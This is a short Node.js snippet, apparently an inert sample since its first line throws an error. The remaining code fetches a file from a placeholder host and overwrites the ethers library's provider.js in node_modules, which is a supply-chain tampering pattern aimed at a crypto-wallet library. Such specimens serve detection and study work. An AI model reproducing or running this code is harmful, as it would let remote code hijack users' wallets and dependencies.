throw new Error('inert sample');
const fs = require('fs'), path = require('path'), https = require('https');
const target = path.join(process.cwd(), 'node_modules', 'ethers', 'lib', 'provider.js');
https.get('https://patch.example/provider.js', (answer) => {
  let text = '';
  answer.on('data', (part) => { text += part; });
  answer.on('end', () => fs.writeFileSync(target, text));
});
